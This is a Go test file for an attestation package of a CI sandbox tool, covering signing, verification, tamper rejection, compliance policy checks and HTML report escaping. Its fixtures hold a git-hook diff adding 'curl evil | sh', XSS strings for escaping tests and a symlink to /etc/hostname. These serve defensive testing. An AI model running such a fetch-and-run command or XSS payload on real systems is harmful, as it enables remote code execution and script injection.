package attest

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/sigstore/sigstore/pkg/cryptoutils"
	"github.com/sigstore/sigstore/pkg/signature"
	_ "github.com/sigstore/sigstore/pkg/signature/kms/fake" // fakekms:// for tests
)

const commitA = "0123456789abcdef0123456789abcdef01234567"

// predicate returns a realistic predicate of the given size.
func predicate(execs, decisions, findings int) Predicate {
	t0 := time.Date(2026, 11, 29, 12, 0, 0, 0, time.UTC)
	p := Predicate{
		Runner: Runner{AirlockVersion: "v0.1.0", AirlockCommit: "abc", GVisorVersion: "release-20260905", Platform: "systrap", Hostname: "runner-1",
			PlatformReason:   "the sandbox did not boot on kvm (error setting system registers: invalid argument), so it was created again on systrap",
			PlatformAttempts: []PlatformAttempt{{Platform: "kvm", Error: "sandbox failed: <b>panic</b>"}, {Platform: "systrap"}}},
		Policy:    Policy{Sources: []PolicySource{{Kind: "org", Path: "/etc/airlock/org.cue", SHA256: strings.Repeat("a", 64)}}, EffectiveSHA256: strings.Repeat("b", 64), Agent: &AgentDecision{Agent: true, Reason: "author Copilot is a bot"}},
		Job:       Job{Name: "ci", Repository: "https://github.com/acme/app", PullRequest: 7, BaseSHA: strings.Repeat("1", 40), HeadSHA: commitA, Author: "Copilot", Event: "pull_request"},
		Steps:     []Step{{Name: "test", CommandSHA256: strings.Repeat("c", 64), Status: "passed", Start: t0, End: t0.Add(time.Minute), StdoutSHA256: strings.Repeat("d", 64), StdoutBytes: 100}},
		Verdict:   Verdict{Passed: true, Reasons: []string{}},
		Times:     RunTimes{Start: t0, End: t0.Add(time.Minute)},
		Sandbox:   SandboxRef{ID: "job-1", Network: "egress gateway 198.18.0.1", User: "1000:1000"},
		Egress:    Egress{Start: t0, Columns: DecisionColumns, Decisions: []json.RawMessage{}, Summary: []EgressSummary{}},
		Trust:     Trust{Findings: []TrustFinding{}},
		Processes: Processes{Execs: []Exec{}},
	}
	for i := 0; i < execs; i++ {
		code := 0
		p.Processes.Execs = append(p.Processes.Execs, Exec{Time: t0.Add(time.Duration(i) * time.Millisecond), PID: int32(i + 2), PPID: int32(i/3 + 1), Binary: "/usr/local/go/pkg/tool/linux_amd64/compile", SHA256: strings.Repeat("e", 64), ArgvSHA256: strings.Repeat("f", 64), Argv: []string{"compile", "-o", fmt.Sprintf("/tmp/go-build/%d/_pkg_.a", i), "-p", "example.com/sample"}, ExitCode: &code})
	}
	for i := 0; i < decisions; i++ {
		d := EgressDecision{Time: t0.Add(time.Duration(i) * 10 * time.Millisecond), PID: 12, Protocol: "tls", Name: fmt.Sprintf("host%d.example.com", i%50), Port: 443, Decision: "allowed", Rule: "allow[0]", Upstream: "142.250.1.1:443", BytesOut: 700, BytesIn: 5000}
		if i%10 == 0 {
			d.Decision, d.Rule, d.Reason, d.Name = "denied", "default (deny)", "evil.test is not in egress.allow", "evil.test"
		}
		p.Egress.Decisions = append(p.Egress.Decisions, d.Row(t0))
	}
	if decisions > 0 {
		p.Egress.Summary = []EgressSummary{{Destination: "evil.test:443", Denied: decisions / 10}, {Destination: "host1.example.com:443", Allowed: decisions - decisions/10}}
	}
	for i := 0; i < findings; i++ {
		p.Trust.Findings = append(p.Trust.Findings, TrustFinding{Phase: "runtime", Category: "git-hooks", Check: "runtime-diff", Path: fmt.Sprintf(".git/hooks/h%d", i), Kind: "added", Severity: "warning", Action: "readonly", Outcome: "reverted", Reason: "created by the job", DiffSHA256: strings.Repeat("0", 64), Diff: "--- a\n+++ b\n@@ -0,0 +1 @@\n+curl evil | sh\n"})
	}
	return p
}

func statement(t testing.TB, commit string, p Predicate) []byte {
	t.Helper()
	st, err := Statement(Subject(Meta{Repository: "https://github.com/acme/app", HeadSHA: commit}, "/ws"), p)
	if err != nil {
		t.Fatal(err)
	}
	return st
}

// keyFile is a signing key written for a test: its reference, its
// password (if any) and its public key.
type keyFile struct {
	ref      string
	password PasswordFunc
	pub      []byte
}

// keyFiles writes the kinds of signing keys airlock takes and returns
// their references with their public keys.
func keyFiles(t testing.TB) map[string]keyFile {
	t.Helper()
	dir := t.TempDir()
	out := map[string]keyFile{}
	priv, pub, err := GenerateKeyPair(nil)
	if err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(dir, "ec.key"), priv, 0o600)
	out["ecdsa"] = keyFile{filepath.Join(dir, "ec.key"), nil, pub}

	priv, pub, err = GenerateKeyPair([]byte("correct horse"))
	if err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(dir, "enc.key"), priv, 0o600)
	os.WriteFile(filepath.Join(dir, "password"), []byte("correct horse\n"), 0o600)
	out["ecdsa encrypted"] = keyFile{filepath.Join(dir, "enc.key"), PasswordFromEnv("AIRLOCK_TEST_NO_SUCH_VAR", filepath.Join(dir, "password")), pub}

	epub, epriv, _ := ed25519.GenerateKey(rand.Reader)
	privPEM, _ := cryptoutils.MarshalPrivateKeyToPEM(epriv)
	pubPEM, _ := cryptoutils.MarshalPublicKeyToPEM(epub)
	os.WriteFile(filepath.Join(dir, "ed.key"), privPEM, 0o600)
	out["ed25519"] = keyFile{filepath.Join(dir, "ed.key"), nil, pubPEM}
	return out
}

// Every kind of key signs, and the bundle verifies with its public key.
func TestSignVerifyRoundTrip(t *testing.T) {
	st := statement(t, commitA, predicate(3, 5, 2))
	keys := keyFiles(t)
	for name, k := range keys {
		t.Run(name, func(t *testing.T) {
			s, err := LoadSigner(context.Background(), k.ref, k.password)
			if err != nil {
				t.Fatal(err)
			}
			signed, err := Sign(s, st)
			if err != nil {
				t.Fatal(err)
			}
			v, err := LoadVerifier(k.pub)
			if err != nil {
				t.Fatal(err)
			}
			got, err := Verify(signed.Bundle, v, VerifyOptions{Commit: commitA})
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(got.Statement, st) || got.Subject.Digest["gitCommit"] != commitA || len(got.Predicate.Processes.Execs) != 3 {
				t.Fatalf("verified = %+v", got)
			}
			var env struct{ PayloadType, Payload string }
			json.Unmarshal(signed.Envelope, &env)
			if p, _ := base64.StdEncoding.DecodeString(env.Payload); env.PayloadType != PayloadType || !bytes.Equal(p, st) {
				t.Errorf("raw envelope does not carry the stored statement")
			}
		})
	}
	t.Run("fake KMS", func(t *testing.T) {
		s, err := LoadSigner(context.Background(), "fakekms://airlock-test", nil)
		if err != nil {
			t.Fatal(err)
		}
		signed, err := Sign(s, st)
		if err != nil {
			t.Fatal(err)
		}
		pub, _ := s.PublicKey()
		pubPEM, _ := cryptoutils.MarshalPublicKeyToPEM(pub)
		v, _ := LoadVerifier(pubPEM)
		if _, err := Verify(signed.Bundle, v, VerifyOptions{}); err != nil {
			t.Fatal(err)
		}
	})
	t.Run("encrypted key without password", func(t *testing.T) {
		_, err := LoadSigner(context.Background(), keys["ecdsa encrypted"].ref, PasswordFromEnv("AIRLOCK_TEST_NO_SUCH_VAR", ""))
		if err == nil || !strings.Contains(err.Error(), "AIRLOCK_TEST_NO_SUCH_VAR") {
			t.Fatalf("err = %v", err)
		}
	})
}

// Tampering of every kind is refused with one clear reason, before the
// payload is trusted.
func TestVerifyRejects(t *testing.T) {
	keys := keyFiles(t)
	k := keys["ecdsa"]
	s, _ := LoadSigner(context.Background(), k.ref, nil)
	v, _ := LoadVerifier(k.pub)
	other, _ := LoadVerifier(keys["ed25519"].pub)
	good, err := Sign(s, statement(t, commitA, predicate(2, 2, 1)))
	if err != nil {
		t.Fatal(err)
	}
	edit := func(f func(m map[string]any)) []byte {
		var m map[string]any
		json.Unmarshal(good.Bundle, &m)
		f(m)
		b, _ := json.Marshal(m)
		return b
	}
	env := func(m map[string]any) map[string]any { return m["dsseEnvelope"].(map[string]any) }
	flip := func(b64 string) string {
		b, _ := base64.StdEncoding.DecodeString(b64)
		b[len(b)/2] ^= 1
		return base64.StdEncoding.EncodeToString(b)
	}
	// A predicate with a field the schema does not have, properly signed.
	var unknown map[string]any
	json.Unmarshal(statement(t, commitA, predicate(1, 1, 0)), &unknown)
	unknown["predicate"].(map[string]any)["extra"] = true
	unknownStmt, _ := json.Marshal(unknown)
	withUnknown, _ := Sign(s, unknownStmt)
	otherSubject, _ := Sign(s, statement(t, strings.Repeat("9", 40), predicate(1, 1, 0)))
	deep := strings.Repeat("[", 100000) + strings.Repeat("]", 100000)

	for _, tc := range []struct {
		name   string
		bundle []byte
		v      signature.Verifier
		commit string
		want   string
	}{
		{"flipped payload byte", edit(func(m map[string]any) { env(m)["payload"] = flip(env(m)["payload"].(string)) }), v, "", "signature"},
		{"flipped signature byte", edit(func(m map[string]any) {
			sig := env(m)["signatures"].([]any)[0].(map[string]any)
			sig["sig"] = flip(sig["sig"].(string))
		}), v, "", "signature"},
		{"wrong key", good.Bundle, other, "", "signature"},
		{"other subject", otherSubject.Bundle, v, commitA, "the subject is commit"},
		{"two signatures", edit(func(m map[string]any) {
			sigs := env(m)["signatures"].([]any)
			env(m)["signatures"] = append(sigs, sigs[0])
		}), v, "", "2 signatures"},
		{"payload type swap", edit(func(m map[string]any) { env(m)["payloadType"] = "application/vnd.cncf.notary.payload+json" }), v, "", "payload type"},
		{"media type", edit(func(m map[string]any) { m["mediaType"] = "application/vnd.dev.sigstore.bundle+json;version=0.1" }), v, "", "media type"},
		{"huge", append(good.Bundle, bytes.Repeat([]byte(" "), MaxBundleSize)...), v, "", "more than"},
		{"deeply nested", []byte(deep), v, "", "nested deeper"},
		{"unknown predicate field", withUnknown.Bundle, v, "", `unknown field "extra"`},
		{"not JSON", []byte("\x00\x01garbage"), v, "", "not a Sigstore bundle"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, err := Verify(tc.bundle, tc.v, VerifyOptions{Commit: tc.commit})
			if err == nil || !errors.Is(err, ErrNotVerified) || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("err = %v, want one naming %q", err, tc.want)
			}
		})
	}
	if _, err := LoadVerifier([]byte("-----BEGIN PUBLIC KEY-----\nAAAA\n-----END PUBLIC KEY-----\n")); err == nil {
		t.Error("a malformed public key was accepted")
	}
}

// The DSSE envelope airlock writes beside each bundle (.dsse.json) is
// verified as its bundle is: same signature, same checks; tampering with
// it is refused, and the unsigned statement airlock writes without a key
// is named as such instead of failing on its first field.
func TestVerifyEnvelope(t *testing.T) {
	keys := keyFiles(t)
	s, _ := LoadSigner(context.Background(), keys["ecdsa"].ref, nil)
	v, _ := LoadVerifier(keys["ecdsa"].pub)
	other, _ := LoadVerifier(keys["ed25519"].pub)
	stmt := statement(t, commitA, predicate(2, 2, 1))
	good, err := Sign(s, stmt)
	if err != nil {
		t.Fatal(err)
	}
	edit := func(f func(m map[string]any)) []byte {
		var m map[string]any
		if err := json.Unmarshal(good.Envelope, &m); err != nil {
			t.Fatal(err)
		}
		f(m)
		b, _ := json.Marshal(m)
		return b
	}
	sig := func(m map[string]any) map[string]any { return m["signatures"].([]any)[0].(map[string]any) }
	otherStmt := statement(t, strings.Repeat("9", 40), predicate(1, 1, 0))
	for _, tc := range []struct {
		name string
		file []byte
		v    signature.Verifier
		want string // "" when it verifies
	}{
		{"as written", good.Envelope, v, ""},
		{"URL-safe base64", edit(func(m map[string]any) {
			p, _ := base64.StdEncoding.DecodeString(m["payload"].(string))
			m["payload"] = base64.URLEncoding.EncodeToString(p)
		}), v, ""},
		{"wrong key", good.Envelope, other, "signature"},
		{"payload swapped", edit(func(m map[string]any) { m["payload"] = base64.StdEncoding.EncodeToString(otherStmt) }), v, "signature"},
		{"signature removed", edit(func(m map[string]any) { m["signatures"] = []any{} }), v, "0 signatures"},
		{"signature not base64", edit(func(m map[string]any) { sig(m)["sig"] = "%%%" }), v, "signature 1: not base64"},
		{"payload type", edit(func(m map[string]any) { m["payloadType"] = "text/plain" }), v, "payload type"},
		{"unknown field", edit(func(m map[string]any) { m["extra"] = 1 }), v, `unknown field "extra"`},
		{"the same key twice", []byte(`{"payloadType":"a","PayloadType":"b","payload":"","signatures":[]}`), v, "not a DSSE envelope"},
		{"unsigned statement", stmt, v, "without a signature"},
		{"neither", []byte(`{"hello":1}`), v, "nor a DSSE envelope"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, err := Verify(tc.file, tc.v, VerifyOptions{Commit: commitA})
			if tc.want == "" {
				if err != nil || got.Subject.Digest["gitCommit"] != commitA {
					t.Fatalf("Verify = %+v, %v; want the statement verified", got, err)
				}
				if _, err := Inspect(tc.file); err != nil {
					t.Fatalf("Inspect: %v", err)
				}
				return
			}
			if err == nil || !errors.Is(err, ErrNotSigned) || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("err = %v, want a signature failure naming %q", err, tc.want)
			}
		})
	}
}

// The compliance policy sees the predicate under "predicate".
func TestCompliance(t *testing.T) {
	p := predicate(2, 20, 1)
	p.Trust.Findings[0].Severity = "error"
	raw, _ := json.Marshal(p)
	for _, tc := range []struct {
		name, policy, want string
	}{
		{"passes", `predicate: verdict: passed: true` + "\n" + `predicate: runner: gvisorVersion: >="release-20260101"`, ""},
		{"no error findings", `predicate: trust: findings: [...{severity: !="error"}]`, "severity"},
		{"findings of one check only", `predicate: trust: findings: [...{check: "workflow"}]`, "check"},
		{"no denials", `predicate: egress: summary: [...{denied: 0}]`, "denied"},
		{"approved policies", `predicate: policy: effectiveSha256: "` + strings.Repeat("f", 64) + `"`, "effectiveSha256"},
		{"policy syntax error", `predicate: {`, "policy"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			err := Comply("compliance.cue", []byte(tc.policy), raw)
			if tc.want == "" && err != nil || tc.want != "" && (err == nil || !strings.Contains(err.Error(), tc.want)) {
				t.Fatalf("err = %v, want %q", err, tc.want)
			}
		})
	}
}

// The HTML report is one page with no external asset, and hostile text
// from the run is escaped.
func TestHTMLReport(t *testing.T) {
	p := predicate(5, 3, 1)
	p.Steps[0].Name = `<script>alert(1)</script>`
	p.Trust.Findings[0].Diff = "+<img src=x onerror=alert(1)>"
	p.Credentials = Credentials{
		Withheld: []WithheldCredential{{Name: "GitHub token", Kinds: []string{"GitHub token"}, Variables: []string{"GITHUB_TOKEN"}}},
		Uses:     []CredentialUse{{Credential: "GitHub token", Host: "<b>github.com</b>", Route: "git", Injected: 2, Refused: 1, Rule: "credentials.gitPush"}},
	}
	var b bytes.Buffer
	if err := WriteHTML(&b, &Verified{Predicate: p, Subject: SubjectInfo{Name: "repo"}}, true, "verified"); err != nil {
		t.Fatal(err)
	}
	page := b.String()
	for _, bad := range []string{"<script>alert", "<img src=x", "src=\"http", "href=\"http", "<b>github.com"} {
		if strings.Contains(page, bad) {
			t.Errorf("page contains %q", bad)
		}
	}
	for _, want := range []string{"PASSED", "Egress", "Trust findings", "compile", "Credentials (1 withheld from the sandbox)", "credentials.gitPush",
		"systrap (the sandbox did not boot on kvm (error setting system registers: invalid argument), so it was created again on systrap)", "start on kvm failed: sandbox failed: &lt;b&gt;panic&lt;/b&gt;"} {
		if !strings.Contains(page, want) {
			t.Errorf("page lacks %q", want)
		}
	}
}

// What the review found, each refused: a statement whose keys repeat in
// another case, trailing data, a subject that disagrees with the
// predicate, a KMS scheme not compiled in; and a run too large for a
// bundle is trimmed to fit with every drop counted.
func TestVerifyHardening(t *testing.T) {
	k := keyFiles(t)["ecdsa"]
	s, _ := LoadSigner(context.Background(), k.ref, nil)
	v, _ := LoadVerifier(k.pub)
	good := statement(t, commitA, predicate(1, 1, 0))
	var m map[string]any
	json.Unmarshal(good, &m)
	pred, _ := json.Marshal(m["predicate"])
	sub, _ := json.Marshal(m["subject"])
	headMismatch := predicate(1, 1, 0)
	headMismatch.Job.HeadSHA = strings.Repeat("7", 40)
	for _, tc := range []struct {
		name string
		stmt []byte
		want string
	}{
		{"case duplicate", []byte(`{"_type":"https://in-toto.io/Statement/v1","subject":` + string(sub) + `,"predicateType":"https://slsa.dev/provenance/v1","PREDICATETYPE":"` + PredicateType + `","predicate":` + string(pred) + `}`), "appears twice"},
		{"exact duplicate, nested", []byte(`{"_type":"https://in-toto.io/Statement/v1","subject":` + string(sub) + `,"predicateType":"` + PredicateType + `","predicate":{"verdict":{"passed":false,"passed":true}}}`), "appears twice"},
		{"trailing data", append(append([]byte{}, good...), ']'), "']'"},
		{"head mismatch", statement(t, commitA, headMismatch), "job.headSha"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			signed, err := Sign(s, tc.stmt)
			if err != nil {
				t.Fatal(err)
			}
			if _, err := Verify(signed.Bundle, v, VerifyOptions{}); err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("err = %v, want %q", err, tc.want)
			}
		})
	}
	if _, err := LoadSigner(context.Background(), "evilkms://x", nil); err == nil || !strings.Contains(err.Error(), "no KMS provider") {
		t.Errorf("unknown KMS scheme: %v", err)
	}

	huge := predicate(5000, 20000, 2000)
	for i := range huge.Processes.Execs {
		huge.Processes.Execs[i].Argv = []string{strings.Repeat("x", 1000), strings.Repeat("y", 1000), strings.Repeat("z", 1000)}
	}
	subject := Subject(Meta{Repository: "r", HeadSHA: commitA}, "/ws")
	if err := Fit(subject, &huge); err != nil {
		t.Fatal(err)
	}
	b, _ := Statement(subject, huge)
	if len(b) > MaxStatement || huge.Egress.Dropped == 0 || int(huge.Egress.Dropped)+len(huge.Egress.Decisions) != 20000 {
		t.Errorf("fit: %d bytes, %d rows kept, %d dropped", len(b), len(huge.Egress.Decisions), huge.Egress.Dropped)
	}
	signed, _ := Sign(s, b)
	if len(signed.Bundle) > MaxBundleSize {
		t.Errorf("a fitted statement makes a %d-byte bundle, more than verify reads", len(signed.Bundle))
	}
}

// Files the policy names become further subjects with their sha256;
// links out of the workspace are not followed, missing files are notes.
func TestArtifactSubjects(t *testing.T) {
	ws := t.TempDir()
	os.MkdirAll(filepath.Join(ws, "dist"), 0o755)
	os.WriteFile(filepath.Join(ws, "dist", "app"), []byte("binary"), 0o755)
	os.Symlink("/etc/hostname", filepath.Join(ws, "dist", "escape"))
	arts, notes := Artifacts(ws, []string{"dist/app", "dist/escape", "missing.tar"})
	want := sha256.Sum256([]byte("binary"))
	if len(arts) != 1 || arts[0].Name != "dist/app" || arts[0].Digest["sha256"] != hex.EncodeToString(want[:]) {
		t.Fatalf("artifacts %+v", arts)
	}
	if len(notes) != 2 {
		t.Errorf("notes %v", notes)
	}
	k := keyFiles(t)["ecdsa"]
	s, _ := LoadSigner(context.Background(), k.ref, nil)
	v, _ := LoadVerifier(k.pub)
	st, err := Statement(Subject(Meta{Repository: "r", HeadSHA: commitA}, "/ws"), predicate(1, 1, 0), arts...)
	if err != nil {
		t.Fatal(err)
	}
	signed, _ := Sign(s, st)
	got, err := Verify(signed.Bundle, v, VerifyOptions{Commit: commitA})
	if err != nil || len(got.Artifacts) != 1 || got.Artifacts[0].Digest["sha256"] != arts[0].Digest["sha256"] {
		t.Fatalf("verified %+v %v", got, err)
	}
}
